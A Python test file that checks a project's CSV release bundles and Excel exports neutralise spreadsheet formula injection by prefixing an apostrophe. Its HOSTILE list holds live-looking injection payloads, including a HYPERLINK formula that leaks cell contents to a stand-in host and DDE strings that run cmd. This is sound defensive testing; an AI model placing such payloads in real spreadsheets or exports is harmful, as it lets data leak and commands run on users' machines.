"""Issue 19, finding 7: texts that a spreadsheet would run as formulas are written as text, in every CSV
of a release (and so its bundle.zip) and in every workbook `nkc-kg export-xlsx` writes."""

from __future__ import annotations

import csv
import hashlib
import io
import shutil
from pathlib import Path

from nkc_kg.loaders.paths import DATA_DIR
from nkc_kg.loaders.workbook.exporter import export_plan
from nkc_kg.loaders.workbook.workbook import read_workbook
from nkc_kg.service.releases.bundles import answer_csv
from openpyxl import load_workbook

HOSTILE = [
    '=HYPERLINK("http://127.0.0.1:1/?leak="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]
HARMLESS = ["Team samenstellen", "-5", "+3.25", "2025", ""]


def test_release_csv_cells_are_neutralised_and_read_back_unchanged(tmp_path: Path) -> None:
    from nkc_kg.loaders.formula_guard import csv_cell
    from nkc_kg.service.releases.bundles import Release

    assert csv_cell("\r=1+1") == "'\r=1+1"

    rows = [{"text": value} for value in HOSTILE + HARMLESS]
    body = answer_csv(["text"], rows)
    cells = [row[0] for row in csv.reader(io.StringIO(body.decode()))][1:]
    for value, cell in zip(HOSTILE, cells, strict=False):
        assert cell == "'" + value, "a formula-like cell must start with an apostrophe"
    assert cells[len(HOSTILE) :] == HARMLESS
    # the release's own readers (diffs between releases) see the values as they were
    (tmp_path / "queries").mkdir()
    (tmp_path / "queries" / "steps.csv").write_bytes(body)
    (tmp_path / "SHA256SUMS").write_text(f"{hashlib.sha256(body).hexdigest()}  queries/steps.csv\n")
    release = Release("1.0", tmp_path, {"queries": {"steps": {"file": "queries/steps.csv"}}})
    _, read = release.query_answer("steps")
    assert [r["text"] for r in read] == HOSTILE + HARMLESS


def test_exported_workbook_cells_are_text_with_a_quote_prefix_and_import_unchanged(tmp_path: Path) -> None:
    data = tmp_path / "data"
    shutil.copytree(DATA_DIR, data)
    activities = data / "zeldzame-kankers-2025-activiteiten.yaml"
    text = activities.read_text(encoding="utf-8")
    first_step = text.index('text: "', text.index("steps:"))
    end = text.index('"\n', first_step + 7)
    hostile = HOSTILE[0].replace('"', '\\"')
    activities.write_text(text[:first_step] + f'text: "{hostile}' + text[end:], encoding="utf-8")
    target = tmp_path / "plan.xlsx"
    export_plan("zeldzame-kankers-2025", target, sorted(data.glob("*.yaml")))
    sheet = load_workbook(target)["Stappen"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE[0]]
    assert cells, "the step text is in the workbook"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    tables, errors = read_workbook(target, "plan.xlsx")
    assert not errors
    assert HOSTILE[0] in [row.get("text") for row in tables["Stappen"]]
